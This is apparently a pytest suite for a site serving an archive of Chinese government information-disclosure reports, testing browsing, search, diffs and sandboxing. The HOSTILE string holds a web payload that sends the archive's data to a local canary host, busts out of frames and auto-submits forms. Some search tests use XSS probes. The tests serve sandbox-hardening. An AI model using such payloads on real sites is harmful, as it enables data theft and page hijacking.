"""The site in a real browser and by plain requests: clicking through it, and a page that tries to break out."""

from __future__ import annotations

import asyncio
import json
import re
import shutil
import threading
import urllib.request
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from crawler.archive.archive import Archive
from crawler.commands.cli import cli
from crawler.site.evidence import blocks, names
from tests.pipelines.test_figures import capture
from tests.support.archive_toy import page as toy_page
from tests.support.serving import get, report_path, served

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
needs_browser = pytest.mark.skipif(
    CHROMIUM is None, reason="no Chromium on this machine: the site was not looked at in a browser"
)


class _Canary(BaseHTTPRequestHandler):
    """Notes every request that reaches it."""

    asked: list[str]

    def do_GET(self) -> None:
        """Note it."""
        self.asked.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET  # noqa: N815

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def canary() -> Iterator[tuple[str, list[str]]]:
    """A server that nobody may ask: its address and what it was asked."""
    asked: list[str] = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("Canary", (_Canary,), {"asked": asked}))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()


HOSTILE = """<base href="{canary}/base/"><meta http-equiv="refresh" content="0; url={canary}/refresh">
<link rel="stylesheet" href="{canary}/style.css"><link rel="prefetch" href="{canary}/prefetch">
<style>@import "{canary}/import.css"; body {{ background: url({canary}/background.png) }}</style>
<script>top.location = "{canary}/busted"; parent.document.title = "broken"; fetch("{canary}/fetch");
  fetch("/archive.json").then(r => r.text()).then(t => {{ new Image().src = "{canary}/stolen?" + t }});
  document.cookie = "a=b"; localStorage.setItem("a", "b"); document.title = "ran";</script>
<script src="{canary}/script.js"></script>
<body onload="document.forms[0].submit()"><img src="{canary}/picture.png" onerror="document.title='ran'">
<svg onload="document.title='ran'"></svg><iframe src="{canary}/frame"></iframe><object data="{canary}/object"></object>
<embed src="{canary}/embed"><video src="{canary}/video" autoplay></video><audio src="{canary}/audio" autoplay></audio>
<form action="{canary}/form" method="post"><input name="a" value="b"><button id="go">go</button></form>
<a id="out" href="{canary}/link" target="_top">out</a><a id="within" href="{canary}/within">within</a>
<a id="script" href="javascript:document.title='ran'">script</a>"""


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory, canary: tuple[str, list[str]]) -> Path:
    """Two years of one district, the second corrected once; a third whose page is hostile."""
    from crawler.records.capture import Context
    from pipelines import derive

    path = tmp_path_factory.mktemp("site") / "archive.db"
    context = Context(True, False, "210100")
    with Archive.open(path) as opened:
        opened.expect([("x", "210104", "大东区", year, f"{year + 1}-03-31") for year in range(2020, 2025)])
        opened.begin_run(["x"])
        figures: dict[int, int | str] = {0: 40, 1: 2, 2: 30, 4: 4, 16: 1, 23: 35, 24: 7}
        says = "2021年共收到政府信息公开申请40件。因政府信息公开引起行政复议3件。"
        opened.store(derive(capture(2021, figures, says), context))
        opened.store(
            derive(
                capture(2022, figures | {0: 50}, "<script>document.title='ran'</script>主动公开政府信息77条。"), context
            )
        )
        hostile = capture(2023, figures, "")
        hostile.body = hostile.body.replace(b"<h1>", HOSTILE.format(canary=canary[0]).encode() + b"<h1>", 1)
        opened.store(derive(hostile, context))
        run = opened.begin_run(["x"])
        again = capture(2022, figures | {0: 51}, "主动公开政府信息78条。")
        again.fetched_at = "2024-05-01T00:00:00Z"
        opened.store(derive(again, context))
        opened.settle(run, derive)
        opened.finish_run(run, "finished")
    return path


@pytest.fixture(scope="module")
def site(archive: Path) -> Iterator[str]:
    with served(archive) as address:
        yield address


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        found = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield found
        found.close()


@needs_browser
def test_a_person_clicks_from_the_map_over_the_grid_to_a_sentence(site: str, archive: Path, browser: Any) -> None:
    page = browser.new_context(java_script_enabled=False).new_page()
    page.set_default_timeout(8_000)
    page.goto(site)
    page.get_by_role("link", name="辽宁：").click()
    assert page.url == site + "/province/210000"
    page.get_by_role("link", name="大东区 2021").click()
    assert page.url == site + report_path(archive, 1)
    assert "沈阳市大东区2021年" in page.locator("h1").inner_text()
    assert page.locator("mark", has_text="收到政府信息公开申请40件").count() == 1
    page.locator("#figures a", has_text="2021年共收到政府信息公开申请40件").first.click()
    assert re.search(r"#e\d+$", page.url)
    assert page.frame_locator(".served iframe").locator("h1").inner_text().startswith("沈阳市大东区2021年")
    page.get_by_role("link", name="大东区", exact=True).click()
    assert page.url.endswith("/region/210104")
    assert page.locator("svg polyline").count() > 0
    assert "2020" in page.locator(".notice").inner_text()
    page.get_by_role("link", name="与其他地区比较").click()
    page.locator("select[name=measure]").select_option("granted")
    page.get_by_role("button", name="比较").click()
    assert "予以公开" in page.locator("h2").first.inner_text()


@needs_browser
def test_searching_filtering_and_reading_a_difference(site: str, browser: Any) -> None:
    page = browser.new_context(java_script_enabled=False).new_page()
    page.set_default_timeout(8_000)
    page.goto(site)
    page.locator("main input[type=search]").fill("主动公开政府信息78条")
    with page.expect_navigation():
        page.keyboard.press("Enter")
    assert page.locator(".hits li").count() == 1
    assert page.locator(".hits mark").inner_text() == "主动公开政府信息78条"
    page.goto(site + "/search?q=" + quote("统计期限"))
    assert page.locator(".hits li").count() == 3
    page.get_by_role("link", name="2021", exact=True).click()
    assert page.locator(".hits li").count() == 1
    page.locator(".filter").click()
    assert page.locator(".hits li").count() == 3
    page.goto(site + "/report/2")
    page.get_by_role("link", name="与上一版的差异").click()
    assert page.locator(".text del").first.inner_text().strip() == "7"
    assert page.locator(".text ins").first.inner_text().strip() == "8"


@needs_browser
@pytest.mark.parametrize("width", [360, 1280])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_page_is_wider_than_the_screen(site: str, browser: Any, width: int, scheme: str) -> None:
    page = browser.new_context(viewport={"width": width, "height": 800}, color_scheme=scheme).new_page()
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    for path in ("/", "/report/1", "/report/2/versions", "/region/210104", "/compare", "/search?q=1", "/tables"):
        page.goto(site + path)
        assert page.evaluate("document.documentElement.scrollWidth") <= width, path
    # A sandboxed page as served may be refused something; our own pages load nothing that their policy forbids.
    assert [text for text in complaints if "/static-plugins/" in text] == []


@needs_browser
def test_a_page_as_served_cannot_break_out(
    site: str, archive: Path, browser: Any, canary: tuple[str, list[str]]
) -> None:
    address = site + report_path(archive, 3)
    context = browser.new_context()
    page = context.new_page()
    for name in ("h1", "#go", "#out", "#within", "#script"):
        page.goto(address)
        title = page.title()
        page.locator(".served iframe").scroll_into_view_if_needed()
        frame = page.frame_locator(".served iframe")
        assert frame.locator("h1").inner_text().startswith("沈阳市大东区2023年")
        frame.locator(name).click(no_wait_after=True, force=True)
        page.wait_for_load_state("networkidle")
        assert page.url == address, name
        assert page.title() == title, name
    assert context.pages == [page]
    assert context.cookies() == []
    alone = context.new_page()
    alone.goto(site + page.locator("iframe").get_attribute("src"))
    alone.wait_for_load_state("networkidle")
    assert alone.url.startswith(site)
    assert alone.title() != "ran"
    assert canary[1] == []


@needs_browser
def test_the_canary_is_asked_where_nothing_holds_the_page_back(
    browser: Any, canary: tuple[str, list[str]], tmp_path: Path
) -> None:
    """The same page without our sandbox: else the test above could not fail."""
    page = browser.new_context().new_page()
    page.set_content(HOSTILE.replace('http-equiv="refresh"', "").format(canary=canary[0]), wait_until="commit")
    page.wait_for_load_state("networkidle")
    assert any("style.css" in path for path in canary[1])
    canary[1].clear()


def test_the_raw_page_is_exact_and_in_a_sandbox(site: str, archive: Path) -> None:
    status, _, headers = get(site + "/capture/3/raw")
    assert status == 200
    assert headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
    assert headers["X-Content-Type-Options"] == "nosniff"
    with urllib.request.urlopen(site + "/capture/3/raw") as answer, Archive.read(archive) as reading:
        sha256 = reading.connection.execute("select sha256 from captures where id = 3").fetchone()[0]
        assert answer.read() == reading.captures.body(sha256)


def test_our_pages_run_no_script_and_cannot_be_framed(site: str) -> None:
    for path in ("/", "/report/1", "/search?q=1"):
        _, body, headers = get(site + path)
        assert "default-src 'none'" in headers["Content-Security-Policy"]
        assert "script-src" not in headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
        assert "<script" not in body


@pytest.mark.parametrize("path", ["/report/999", "/report/1/versions?from=7", "/capture/999/raw", "/region/999999"])
def test_what_is_not_there_is_said(site: str, path: str) -> None:
    status, body, _ = get(site + path)
    assert status == 404
    assert "没有这一页" in body


def test_of_a_report_with_one_version_no_difference_is_shown(site: str) -> None:
    for path, differs in (("/report/1/versions", False), ("/report/2/versions", True)):
        status, body, _ = get(site + path)
        assert status == 200
        assert ("只有一个版本。" in body) is not differs
        assert ("…</p>" in body) is differs
        assert ("<ins>" in body) is differs


@pytest.mark.parametrize(
    "query", ['"', "，。", "NEAR(", "a AND", "*", "-", "(", "%", "'", "<script>alert(1)</script>", ""]
)
def test_any_query_has_an_answer(site: str, query: str) -> None:
    for path in (f"/search?q={quote(query)}", f"/archive/reports.json?_search={quote(query)}"):
        status, body, _ = get(site + path)
        assert status == 200, (path, body)
        assert "<script>alert" not in body or path.startswith("/archive")


def test_the_facet_of_a_region_that_changed_its_name_has_the_newest(tmp_path: Path) -> None:
    """As the grid and its own page have it, whichever report came first."""
    with Archive.open(tmp_path / "archive.db") as opened:
        opened.begin_run(["x"])
        for year, name in ((2012, "东陵区"), (2019, "浑南区"), (2013, "东陵区")):
            one = toy_page(f"/{year}", text="年报", year=year, region_code="210112")
            assert one.report is not None
            one.report.region = name
            opened.store(one)
    with served(tmp_path / "archive.db") as address:
        body = get(f"{address}/search?q={quote('年报')}")[1]
    (facet,) = re.findall(r"<a[^>]*region=210112[^>]*>([^<]*)</a>", body)
    assert facet == "浑南区"


def test_datasette_s_own_search_box_finds_chinese(site: str) -> None:
    told = json.loads(
        get(f"{site}/archive/reports.json?_shape=array&_col=id&_search={quote('主动公开政府信息78条')}")[1]
    )
    assert [row["id"] for row in told] == [2]


def test_canned_queries_answer(site: str) -> None:
    from crawler.archive.queries.canned import QUERIES

    for query in QUERIES:
        status, body, _ = get(f"{site}/archive/{query.name}.json?_shape=array&region=&year=&code=disc_total&q=1")
        assert status == 200, body
        assert isinstance(json.loads(body), list)
    told = json.loads(get(f"{site}/archive/search.json?_shape=array&q={quote('行政复议3件')}")[1])
    assert [row["id"] for row in told] == [1]


def test_the_feed_names_what_was_found(site: str) -> None:
    status, body, headers = get(site + "/feed.atom")
    assert status == 200
    assert headers["Content-Type"].startswith("application/atom+xml")
    assert "更正 changed" in body


def test_tables_are_described_in_datasette_too(site: str) -> None:
    assert "the sentence as printed" in get(site + "/tables")[1] or "evidence" in get(site + "/tables")[1]
    assert "One walk of one or more portals" in get(site + "/archive/runs")[1]


def test_an_archive_without_reports_has_its_pages(tmp_path: Path) -> None:
    Archive.open(tmp_path / "empty.db").close()
    with served(tmp_path / "empty.db") as address:
        for path in ("/", "/search?q=1", "/compare", "/tables", "/feed.atom"):
            assert get(address + path)[0] == 200, path
        assert get(address + "/report/1")[0] == 404


def test_serving_what_is_no_archive_is_one_sentence(tmp_path: Path) -> None:
    told = CliRunner().invoke(cli, ["serve", "--archive", str(tmp_path / "none.db")])
    assert told.exit_code != 0
    assert "does not exist" in str(told.exception)


def test_a_port_that_is_taken_is_said(site: str, archive: Path) -> None:
    port = site.rsplit(":", 1)[1]
    told = CliRunner().invoke(cli, ["serve", "--archive", str(archive), "--port", port])
    assert "another --port may be free" in str(told.exception)


def test_another_database_keeps_datasette_s_start_page(tmp_path: Path) -> None:
    import sqlite3

    from datasette.app import Datasette

    with sqlite3.connect(tmp_path / "other.db") as other:
        other.execute("create table t (a)")

    async def ask() -> Any:
        return await Datasette([str(tmp_path / "other.db")]).client.get("/")

    with ThreadPoolExecutor() as apart:  # a browser's loop may run in this thread
        answer = apart.submit(asyncio.run, ask()).result()
    assert answer.status_code == 200
    assert "other" in answer.text


def standing(text: str, *spans: tuple[int, int]) -> list[dict[str, Any]]:
    """Figures that stand at these places of a text, by start from 0 and length."""
    return [{"position": at, "start": start + 1, "length": length} for at, (start, length) in enumerate(spans)]


def test_every_word_of_a_text_is_shown_and_figures_are_marked_where_they_stand() -> None:
    text = "一、总体\n全年收到申请3件。其他。\n甲\t3\t4\n乙\t3\t"
    places = [text.index("全年"), text.rindex("3"), text.rindex("\t") + 1, text.index("甲")]
    figures = standing(text, (places[0], 9), (places[1], 1), (places[2], 0), (places[3], 5))
    figures.append({"position": 9, "start": None, "length": None})
    found = blocks(text, ["一、总体"], figures)
    assert [block.kind for block in found] == ["heading", "paragraph", "table"]
    assert [(piece.text, piece.figures) for piece in found[1].pieces] == [("全年收到申请3件。", [0]), ("其他。", [])]
    assert [[piece.figures for piece in row] for row in found[2].rows] == [[[3], [], []], [[], [1], [2]]]


@pytest.mark.parametrize(
    ("evidence", "pieces"),
    [
        # within another, beginning with it, across its end, the same, side by side
        (["收到申请3件，答复2件", "答复2件"], [("全年", []), ("收到申请3件，答复2件", [0, 1]), ("。无。", [])]),
        (["收到申请3件", "收到申请3件，答复2件"], [("全年", []), ("收到申请3件，答复2件", [1, 0]), ("。无。", [])]),
        (["申请3件，答复", "答复2件。"], [("全年收到", []), ("申请3件，答复", [0, 1]), ("2件。无。", [])]),
        (["答复2件", "答复2件"], [("全年收到申请3件，", []), ("答复2件", [0, 1]), ("。无。", [])]),
        (["收到申请3件，", "答复2件。"], [("全年", []), ("收到申请3件，", [0]), ("答复2件。", [1]), ("无。", [])]),
        (["全年收到申请3件，答复2件。无。", "全年", "无。"], [("全年收到申请3件，答复2件。无。", [0, 1, 2])]),
    ],
)
def test_overlapping_sentences_are_shown_once(evidence: list[str], pieces: list[tuple[str, list[int]]]) -> None:
    line = "全年收到申请3件，答复2件。无。"
    figures = standing(line, *((line.index(words), len(words)) for words in evidence))
    ((shown,),) = ([block.pieces for block in blocks(line, [], figures)],)
    assert "".join(piece.text for piece in shown) == line
    assert [(piece.text, piece.figures) for piece in shown] == pieces


@given(
    st.text("甲乙丙\t\n ", max_size=30),
    st.lists(st.tuples(st.integers(0, 40), st.integers(0, 20)), max_size=6),
)
def test_no_word_is_shown_twice_or_lost(text: str, spans: list[tuple[int, int]]) -> None:
    shown = []
    marks: list[int] = []
    for block in blocks(text, [], standing(text, *spans)):
        for row in block.rows or [block.pieces]:
            shown.append(("\t" if block.rows else "").join(piece.text for piece in row))
            marks += [position for piece in row for position in piece.figures]
    assert shown == [line for line in text.split("\n") if "\t" in line or line.strip()]
    assert len(marks) == len(set(marks))


def test_a_figure_has_one_name_and_its_code_is_an_address() -> None:
    figures = [
        {"form": form, "code": code, "position": at}
        for at, (form, code) in enumerate(
            [("f2021", "review_total"), ("f2014", None), ("narrative", "review_total"), ("narrative", "disc_total")]
        )
    ]
    assert names(figures) == {
        0: ("f2021.review_total", "review_total"),
        1: ("row.1", None),
        2: ("narrative.review_total", None),
        3: ("narrative.disc_total", "disc_total"),
    }


def test_the_toy_page_is_an_archive_page(tmp_path: Path) -> None:
    """A report without trail, region, year or text has a page as well."""
    with Archive.open(tmp_path / "a.db") as opened:
        opened.begin_run(["x"])
        opened.store(toy_page("/a.html", text=None, year=None))
    with served(tmp_path / "a.db") as address:
        assert get(address + "/report/1")[0] == 200
